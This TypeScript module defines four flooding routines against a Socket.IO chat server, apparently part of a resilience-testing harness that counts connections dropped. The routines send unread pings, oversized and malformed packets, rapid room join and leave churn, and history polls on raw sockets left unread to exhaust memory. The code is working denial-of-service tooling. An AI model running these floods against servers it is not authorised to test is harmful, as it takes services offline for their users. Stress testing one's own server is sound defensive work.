import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setTimeout as delay, setImmediate as nextTurn } from "node:timers/promises";
import { WebSocket } from "ws";

import type { Attack, Attacker, AttackPlan } from "./attack";

/** Above this in the flooder's own memory, it waits for the kernel. */
const MAX_WAITING_BYTES = 4 * 2 ** 20;
const FRAME_BYTES = 65_000;
const PING = Buffer.alloc(125, "p");
const POLL_INTERVAL_MS = 50;
const MAX_UNREAD = 5_000;

export const ATTACKS: Record<AttackPlan["name"], Attack> = {
  ping: floodPings,
  refused: floodRefused,
  poll: floodPolls,
  presence: floodPresence,
};

/** Pings whose answers are never read. */
async function floodPings(attacker: Attacker): Promise<void> {
  const ws = await open(attacker);
  ws?.pause();
  while (isSending(ws, attacker)) {
    for (let index = 0; index < 1_000 && ws.bufferedAmount < MAX_WAITING_BYTES; index += 1) {
      ws.ping(PING);
      attacker.report.sent += 1;
      attacker.report.bytesSent += PING.length;
    }
    // Its end is not read either: it shows in a write that fails.
    await nextTurn();
  }
  leave(ws, attacker);
}

/** Comes and goes as often as the rates allow, and again with each connection: rooms may be named in the handshake. */
async function floodPresence(attacker: Attacker): Promise<void> {
  const { token, report } = attacker;
  const ws = await open(attacker, { token, rooms: ["hall"] });
  ws?.resume();
  while (isSending(ws, attacker)) {
    for (const packet of [`42["leave",{"room":"hall"}]`, `42["join",{"room":"hall","limit":1}]`]) {
      ws.send(packet);
      report.sent += 1;
      report.bytesSent += packet.length;
    }
    await delay(POLL_INTERVAL_MS);
  }
  leave(ws, attacker);
}

/** What is refused: bytes in place of a payload, thousands of unknown keys, and namespaces that do not exist. */
async function floodRefused(attacker: Attacker): Promise<void> {
  const ws = await open(attacker);
  const keys = JSON.stringify(Object.fromEntries(Array.from({ length: 6_000 }, (_, index) => [`k${index}`, 1])));
  const packets: (string | Buffer)[][] = [
    [`451-["message",{"_placeholder":true,"num":0}]`, Buffer.alloc(FRAME_BYTES)],
    [`42["message",${keys}]`],
    Array.from({ length: 2_000 }, (_, index) => `40/x${index},`),
  ];
  while (isSending(ws, attacker)) {
    if (ws.bufferedAmount < MAX_WAITING_BYTES) {
      for (const packet of packets[attacker.index % packets.length] ?? []) {
        ws.send(packet);
        attacker.report.sent += 1;
        attacker.report.bytesSent += packet.length;
      }
    }
    await nextTurn();
  }
  leave(ws, attacker);
}

/** Asks for whole pages by polling, each poll on a connection of its own that never reads. */
async function floodPolls(attacker: Attacker): Promise<void> {
  const { url, token, report, isOver } = attacker;
  const base = `${url}/socket.io/?EIO=4&transport=polling`;
  const handshake = await fetch(base).catch(() => undefined);
  if (!handshake?.ok) {
    await delay(POLL_INTERVAL_MS);
    return;
  }
  const sid = JSON.parse((await handshake.text()).slice(1)).sid as string;
  const path = `/socket.io/?EIO=4&transport=polling&sid=${sid}`;
  report.connectionsOpened += 1;
  const post = async (packets: string): Promise<boolean> =>
    (await fetch(url + path, { method: "POST", body: packets }).catch(() => undefined))?.ok ?? false;
  const { hostname, port } = new URL(url);
  let isOpen = (await post(`40${JSON.stringify({ token })}`)) && (await post(`421["join",{"room":"hall"}]`));
  while (isOpen && !isOver() && unread.length < MAX_UNREAD) {
    isOpen = await post(`422["history",{"room":"hall","limit":200}]`);
    const socket = connect(Number(port), hostname);
    socket.on("error", () => {
      // Its end is what is measured.
    });
    socket.pause();
    socket.write(`GET ${path} HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`);
    unread.push(socket);
    report.sent += 1;
    await delay(POLL_INTERVAL_MS);
  }
  report.connectionsEnded += isOpen ? 0 : 1;
  await delay(POLL_INTERVAL_MS);
}

/** Connections of polls, held to the end and not read. */
const unread: Socket[] = [];

async function open({ url, token, report }: Attacker, auth: object = { token }): Promise<WebSocket | undefined> {
  const ws = new WebSocket(`${url.replace("http", "ws")}/socket.io/?EIO=4&transport=websocket`);
  ws.on("error", () => {
    // Its end is what is measured.
  });
  try {
    await once(ws, "open");
    report.connectionsOpened += 1;
    ws.send(`40${JSON.stringify(auth)}`);
    await once(ws, "message");
    return ws;
  } catch {
    // Refused, or ended already.
    await delay(POLL_INTERVAL_MS);
    return undefined;
  }
}

function isSending(ws: WebSocket | undefined, { isOver }: Attacker): ws is WebSocket {
  return ws?.readyState === WebSocket.OPEN && !isOver();
}

function leave(ws: WebSocket | undefined, { report, isOver }: Attacker): void {
  report.connectionsEnded += isOver() ? 0 : 1;
  ws?.terminate();
}
